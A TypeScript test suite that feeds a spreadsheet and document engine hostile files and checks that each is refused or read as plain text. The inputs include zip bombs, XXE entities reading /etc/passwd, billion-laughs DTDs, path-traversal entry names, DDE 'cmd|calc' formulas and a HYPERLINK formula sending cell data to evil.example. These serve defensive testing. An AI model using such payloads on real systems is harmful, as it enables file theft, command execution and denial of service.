import { deflateRawSync } from 'node:zlib';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join, resolve } from 'node:path';
import { utils as sheets, write } from 'xlsx';
import { afterAll, describe, expect, it, vi } from 'vitest';
import { failureSentence } from '#shared/messages';
import type { WorkbookPlan } from '#shared/workbook-model';
import { nodeDisk } from '../../electron/host/disk.ts';
import { createHost } from '../../electron/host/host.ts';
import { createPlaces } from '../../electron/host/places/places.ts';
import { engineClient, forkEngine } from '../../electron/host/workbooks/engine-client.ts';
import { engineLimits } from '../../electron/host/workbooks/engine-limits.ts';
import { chance } from '../fault/hostile-calls.ts';
import { hostileBook, hostileDocument, hostileZip, sheetOf, textCell } from '../support/hostile-files.ts';

// A busy machine is slow, which is no failure.
vi.setConfig({ testTimeout: 240_000 });

/** The real engine process over files that mean harm. Built by `npm run build`, as `npm test` does first. */
const entry = resolve('dist/main/engine.cjs');
const root = mkdtempSync(join(tmpdir(), 'hostile-files-'));
const canary = 'CANARY-OF-THIS-MACHINE';
writeFileSync(join(root, 'canary.txt'), canary);
let started = 0;
const begin = (
  limits: {
    readonly heapFlags?: readonly string[];
    readonly words?: readonly string[];
    readonly seconds?: number;
  } = {},
) =>
  engineClient({
    spawn: () => {
      started += 1;
      return forkEngine(entry, {
        heapFlags: limits.heapFlags ?? engineLimits.heapFlags,
        words: limits.words ?? engineLimits.words,
      });
    },
    secondsPerTask: limits.seconds ?? engineLimits.secondsPerTask,
  });
const engine = begin();
afterAll(() => {
  engine.close();
  rmSync(root, { recursive: true, force: true });
});
const good = hostileBook({});
const readsOn = async (): Promise<void> => {
  expect(await engine.read(good)).toMatchObject({
    ok: true,
    value: { sheets: [{ rows: [{ cells: [{ text: 'a' }] }] }] },
  });
};
const row = (cells: string): string => `<row r="1">${cells}</row>`;
const numbers = (count: number): string =>
  Array.from({ length: count }, (_each, index) => `<row r="${String(index + 1)}"><c><v>1</v></c></row>`).join('');
const zeros = (megabytes: number): Buffer => deflateRawSync(Buffer.alloc(megabytes * 1024 * 1024), { level: 9 });
const entity = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>';
const laughs = `<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "${'&a;'.repeat(10)}"><!ENTITY c "${'&b;'.repeat(10)}">]>`;
const lie = { name: 'xl/worksheets/sheet1.xml', data: sheetOf(''), packed: zeros(100), stated: 300 };
const overlapping = (): Buffer => {
  const one = { data: '', packed: zeros(1), stated: 1024 * 1024 };
  return hostileZip(Array.from({ length: 1_100 }, (_each, index) => ({ ...one, name: `${String(index)}.xml`, at: 0 })));
};
const many = { name: 'a.xml', data: 'x'.repeat(100) };

describe('a workbook that means harm', () => {
  it.each([
    [
      'a bomb that states its size',
      'too-large',
      () => hostileBook({ more: [{ name: 'xl/b.xml', data: '', packed: zeros(2), stated: 300 * 1024 * 1024 }] }),
    ],
    [
      'a bomb that swells beyond all use',
      'too-large',
      () => hostileBook({ more: [{ name: 'xl/b.xml', data: '', packed: Buffer.alloc(10), stated: 1024 * 1024 }] }),
    ],
    ['a bomb that lies about its size', 'damaged', () => hostileBook({ sheet: lie })],
    ['a thousand entries over the same bytes', 'too-large', overlapping],
    [
      'more entries than any workbook has',
      'too-large',
      () => hostileZip(Array.from({ length: 5_001 }, (_e, index) => ({ ...many, name: `${String(index)}.xml` }))),
    ],
    [
      'an outer entity in a sheet',
      'damaged',
      () => hostileBook({ sheet: entity + sheetOf(row(textCell('A1', '&a;'))) }),
    ],
    [
      'an outer entity in the texts',
      'damaged',
      () => hostileBook({ strings: `${entity}<sst><si><t>&a;</t></si></sst>` }),
    ],
    [
      'a billion laughs',
      'damaged',
      () => hostileBook({ styles: `${laughs}<styleSheet><cellXfs><xf/>&c;</cellXfs></styleSheet>` }),
    ],
    ['a cell beyond XFD', 'damaged', () => hostileBook({ sheet: sheetOf(row(textCell('XFE1', 'a'))) })],
    [
      'a row beyond 1048576',
      'damaged',
      () => hostileBook({ sheet: sheetOf('<row r="1048577"><c><v>1</v></c></row>') }),
    ],
    [
      'a million merged cells',
      'too-large',
      () =>
        hostileBook({
          sheet: sheetOf(row(''), `<mergeCells>${'<mergeCell ref="A1:B2"/>'.repeat(1_000_000)}</mergeCells>`),
        }),
    ],
    [
      'one enormous text, used again and again',
      'too-large',
      () =>
        hostileBook({
          strings: `<sst><si><t>${'a'.repeat(5_000_000)}</t></si></sst>`,
          sheet: sheetOf(row('<c t="s"><v>0</v></c>'.repeat(5_000))),
        }),
    ],
    [
      'a long text used until it fills all memory',
      'too-large',
      () =>
        hostileBook({
          strings: `<sst><si><t>${'a'.repeat(32_000)}</t></si></sst>`,
          sheet: sheetOf(row('<c t="s"><v>0</v></c>'.repeat(10_000))),
        }),
    ],
    [
      'a formula longer than any',
      'too-large',
      () => hostileBook({ sheet: sheetOf(row(`<c r="A1"><f>${'A1+'.repeat(20_000)}</f></c>`)) }),
    ],
    ['two thousand sheets on one part', 'too-large', () => hostileBook({ sheets: 2_000 })],
    [
      'a hundred thousand formats',
      'too-large',
      () => hostileBook({ styles: `<styleSheet><cellXfs>${'<xf/>'.repeat(100_000)}</cellXfs></styleSheet>` }),
    ],
    ['tags that never close', 'damaged', () => hostileBook({ sheet: '<a>'.repeat(500_000) })],
    ['a text that is not there', 'damaged', () => hostileBook({ sheet: sheetOf(row('<c t="s"><v>-1</v></c>')) })],
    [
      'an encrypted entry',
      'damaged',
      () =>
        hostileBook({
          sheet: { name: 'xl/worksheets/sheet1.xml', data: sheetOf(''), packed: Buffer.from('garbage'), flags: 1 },
        }),
    ],
    [
      'an encrypted workbook',
      'encrypted',
      () =>
        Buffer.concat([
          Buffer.from([0xd0, 0xcf, 0x11, 0xe0]),
          Buffer.alloc(600),
          Buffer.from('EncryptedPackage', 'utf16le'),
        ]),
    ],
    [
      'a page of a browser',
      'not-a-workbook',
      () => Buffer.from('<html><table><tr><td>=cmd|calc</td></tr></table></html>'),
    ],
    ['a list with commas', 'not-a-workbook', () => Buffer.from('单位,金额\n=HYPERLINK("http://a"),1\n')],
    ['a program', 'not-a-workbook', () => Buffer.from('MZ\x90\x00')],
    ['nothing at all', 'not-a-workbook', () => Buffer.alloc(0)],
    ['a zip of something else', 'not-a-workbook', () => hostileZip([{ name: '../../evil.txt', data: 'x' }])],
  ] as const)('%s is answered %s, and the next file is read', async (_name, kind, make) => {
    const before = started;
    const read = await engine.read(make());
    expect(read).toMatchObject({ ok: false, error: { kind: `workbook/${kind}` } });
    await readsOn();
    // Refused by the reader, not by the death of its process.
    expect(started).toBe(Math.max(before, 1));
  });

  it('a million levels deep is read without a fall', async () => {
    const deep = '<a>'.repeat(1_000_000) + '</a>'.repeat(1_000_000);
    expect((await engine.read(hostileBook({ sheet: sheetOf(row(textCell('A1', 'a')), deep) }))).ok).toBe(true);
  });

  it('has no path of its entries used and nothing unpacked: no file appears anywhere it names', async () => {
    const names = [
      '../../evil.txt',
      '..\\..\\evil.txt',
      join(root, 'evil.txt'),
      'C:\\evil.txt',
      '\\\\.\\PhysicalDrive0',
      'con',
      'xl/../../evil.txt',
      'evil\0.txt',
      '/etc/evil.txt',
    ];
    const link = { name: 'xl/worksheets/link.xml', data: join(root, 'canary.txt'), attributes: 0xa1ff0000 };
    const inner = hostileBook({ more: [{ name: '../inner.txt', data: 'x' }] });
    const file = hostileBook({
      relations: `<Relationship Id="rId7" Type="x/worksheet" Target="../../../../..${join(root, 'canary.txt')}"/>`,
      more: [...names.map((name) => ({ name, data: 'evil' })), link, { name: 'xl/embeddings/inner.xlsx', data: inner }],
    });
    const before = [readdirSync('.'), readdirSync('..'), readdirSync(root), readdirSync(dirname(entry))];
    const read = await engine.read(file);
    expect(read).toMatchObject({ ok: true, value: { sheets: [{ name: 's0' }] } });
    const marked = await engine.mark(file, [{ sheet: null, cell: 'A1', text: '请核对' }]);
    expect(marked.ok).toBe(true);
    expect(JSON.stringify(read)).not.toContain(canary);
    expect([readdirSync('.'), readdirSync('..'), readdirSync(root), readdirSync(dirname(entry))]).toEqual(before);
    for (const name of names.filter((each) => !each.includes('\0'))) expect(existsSync(name), name).toBe(false);
  });

  it('follows no link: outer books, exchange of data, addresses and macros are text or nothing', async () => {
    const formulas = [
      "cmd|'/c calc'!A0",
      'HYPERLINK("http://evil.example/?"&amp;A2,"点我")',
      'WEBSERVICE("http://evil.example")',
      "'[1]外部'!A1",
    ];
    const cells = formulas
      .map((formula, index) => `<c r="${'ABCD'[index]!}1" t="str"><f>${formula}</f><v>值${String(index)}</v></c>`)
      .join('');
    const file = hostileBook({
      contentType: 'application/vnd.ms-excel.sheet.macroEnabled.main+xml',
      sheet: sheetOf(row(cells), '<hyperlinks><hyperlink ref="A1" r:id="rId9"/></hyperlinks>'),
      relations:
        '<Relationship Id="rId2" Type="x/externalLink" Target="externalLinks/externalLink1.xml"/><Relationship Id="rId3" Type="x/vbaProject" Target="vbaProject.bin"/><Relationship Id="rId4" Type="x/worksheet" Target="http://evil.example/sheet.xml" TargetMode="External"/>',
      more: [
        {
          name: 'xl/externalLinks/externalLink1.xml',
          data: '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
        },
        { name: 'xl/vbaProject.bin', data: 'macro' },
      ],
    });
    const read = await engine.read(file);
    expect(read.ok && read.value.sheets[0]!.rows[0]!.cells.map(({ kind, text }) => [kind, text])).toEqual(
      formulas.map((_each, index) => ['text', `值${String(index)}`]),
    );
    const marked = await engine.mark(file, [{ sheet: null, cell: 'A1', text: '=1+1' }]);
    expect(marked.ok && Buffer.from(marked.value.bytes).includes('vbaProject')).toBe(false);
  });

  it('cut off or with any byte changed is answered, never with a fall of the engine', async () => {
    const dice = chance(8_401);
    const whole = hostileBook({
      strings: '<sst><si><t>甲</t></si></sst>',
      sheet: sheetOf(row('<c r="A1" t="s"><v>0</v></c>') + numbers(20)),
    });
    const before = started;
    for (let count = 0; count < 400; count += 1) {
      const bytes = Buffer.from(whole);
      if (count % 4 === 0) expect((await engine.read(bytes.subarray(0, dice.below(bytes.length)))).ok).toBe(false);
      for (let flips = 1 + dice.below(4); flips > 0; flips -= 1) bytes[dice.below(bytes.length)] = dice.below(256);
      const read = await engine.read(bytes);
      expect(read.ok || read.error.kind !== 'workbook/engine-stopped', String(count)).toBe(true);
    }
    expect(started).toBe(before);
  });

  it('in an older format, damaged at random, costs at most its own process', async () => {
    const dice = chance(8_402);
    const book = sheets.book_new();
    sheets.book_append_sheet(
      book,
      sheets.aoa_to_sheet([
        ['单位', '金额'],
        ['县民政局', 1.5],
      ]),
      '旧表',
    );
    const quick = begin({ seconds: 10 });
    const kinds = new Set<string>();
    for (const bookType of ['biff8', 'ods', 'xlsb'] as const) {
      const whole = Buffer.from(write(book, { type: 'buffer', bookType }) as Uint8Array);
      expect((await quick.read(whole)).ok, bookType).toBe(true);
      for (let count = 0; count < 40; count += 1) {
        const bytes = Buffer.from(whole);
        for (let flips = 1 + dice.below(8); flips > 0; flips -= 1) bytes[dice.below(bytes.length)] = dice.below(256);
        const read = await quick.read(bytes);
        kinds.add(read.ok ? 'read' : read.error.kind);
      }
    }
    quick.close();
    expect(
      [...kinds].filter(
        (kind) =>
          kind !== 'read' && !/^workbook\/(damaged|not-a-workbook|too-large|encrypted|engine-stopped)$/.test(kind),
      ),
    ).toEqual([]);
    await readsOn();
  });

  it('whose parts lie to a library about their size is refused before the library unpacks them', async () => {
    const file = hostileZip([{ name: 'content.xml', data: '<a/>', packed: zeros(50), stated: 4 }]);
    expect(await engine.read(file)).toEqual({ ok: false, error: { kind: 'workbook/damaged', part: 'content.xml' } });
  });
});

describe('a template that means harm', () => {
  it('fills no placeholder but its own fields, expands no entity, and is refused where it lies', async () => {
    const tags = '{constructor}{__proto__}{toString}{constructor.constructor}{文号}';
    const filled = await engine.letter(
      { bytes: hostileDocument(tags) },
      { fields: { 文号: '<w:t>&amp;{x}=1' }, tables: {} },
    );
    expect(filled.ok).toBe(true);
    if (!filled.ok) return;
    const { openZip } = await import('../../electron/engine/zip.ts');
    const zip = openZip(Buffer.from(filled.value));
    const part = zip.ok ? zip.value.read('word/document.xml') : zip;
    const text = part.ok ? part.value.toString('utf8') : '';
    expect(text).toMatch(/<w:t[^>]*>&lt;w:t&gt;&amp;amp;\{x\}=1<\/w:t>/);
    expect(text).not.toMatch(/native code|object Object/);
    const outer = await engine.letter({ bytes: hostileDocument('&a;', [], entity) }, { fields: {}, tables: {} });
    expect(outer.ok && Buffer.from(outer.value).includes('root:')).toBe(false);
    const lying = hostileDocument('{文号}', [{ name: 'word/header1.xml', data: '<a/>', packed: zeros(50), stated: 4 }]);
    expect(await engine.tags(lying)).toEqual({
      ok: false,
      error: { kind: 'document/damaged', part: 'word/header1.xml' },
    });
    await readsOn();
  });
});

describe('a file that costs too much', () => {
  const host = (own: ReturnType<typeof begin>) => {
    const places = createPlaces({
      newHandle: () => `handle-${String((started += 1))}`,
      startFolder: root,
      dialogs: null,
    });
    const made = createHost({
      version: '1',
      runtime: 'shell',
      dataFolder: join(root, 'data'),
      disk: nodeDisk,
      clock: { now: () => new Date(0) },
      places,
      engine: own,
    });
    return (name: string, bytes: Buffer) => {
      const path = join(root, name);
      mkdirSync(dirname(path), { recursive: true });
      writeFileSync(path, bytes);
      return made['workbooks.read']({ handle: places.issue(path, 'file').handle });
    };
  };
  const ends = async (own: ReturnType<typeof begin>, bytes: Buffer): Promise<void> => {
    const read = host(own);
    const [first, second] = await Promise.all([read('第一个.xlsx', bytes), read('第二个.xlsx', good)]);
    expect(first).toEqual({ ok: false, error: { kind: 'workbook/engine-stopped', file: '第一个.xlsx' } });
    if (!first.ok) expect(failureSentence(first.error, 'zh')).toMatch(/第一个\.xlsx.*程序不受影响/);
    expect(second).toMatchObject({ ok: true, value: { name: '第二个.xlsx' } });
    own.close();
  };
  it('in time is ended alone, the person told which, and the one that waits is read', async () => {
    await ends(begin({ seconds: 2 }), hostileBook({ sheets: 1_000, sheet: sheetOf('<row/>'.repeat(300_000)) }));
  });
  it('in heap is ended alone', async () => {
    await ends(begin({ heapFlags: ['--max-old-space-size=48'] }), hostileBook({ sheet: sheetOf(numbers(400_000)) }));
  });
  it('in memory beside the heap is ended alone', async () => {
    const beside = hostileBook({ sheet: sheetOf('<row r="1"></row>', `<!--${'a'.repeat(120_000_000)}-->`) });
    await ends(begin({ words: ['--most-memory=200000000'] }), beside);
  });
});

describe('text that would be more than text', () => {
  const texts = [
    '=1+1',
    '+1',
    '-1+cmd|calc',
    '@SUM(A1)',
    "=cmd|'/c calc'!A0",
    '<script>alert(1)</script>',
    '</t></is></c><c><f>1+1</f></c>',
    '&lt;b&gt;',
    '\t=1',
    '_x003D_1',
    ']]>',
    '{文号}',
    '"quoted"',
  ];
  it('is read, written and read again as the same text, and never becomes a formula', async () => {
    const escaped = texts.map((text) =>
      text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('_x003D_', '_x005F_x003D_'),
    );
    const cells = escaped.map((text, index) => textCell(`${String.fromCharCode(65 + index)}1`, text)).join('');
    const read = await engine.read(hostileBook({ sheet: sheetOf(row(cells)) }));
    const seen = read.ok ? read.value.sheets[0]!.rows[0]!.cells : [];
    expect(seen.map(({ text }) => text)).toEqual(texts);
    const plan: WorkbookPlan = {
      title: texts[0]!,
      creator: texts[5]!,
      created: '2026-01-01T00:00:00Z',
      sheets: [
        { name: '表', columns: [], rows: [{ cells: seen.map(({ text }) => ({ style: 'text', value: text })) }] },
      ],
    };
    const written = await engine.write(plan);
    const again = written.ok ? await engine.read(written.value) : written;
    const back = again.ok && 'sheets' in again.value ? again.value.sheets[0]!.rows[0]!.cells : [];
    expect(back.map(({ kind, text, formula }) => [kind, text, formula])).toEqual(
      texts.map((text) => ['text', text, undefined]),
    );
  });
});
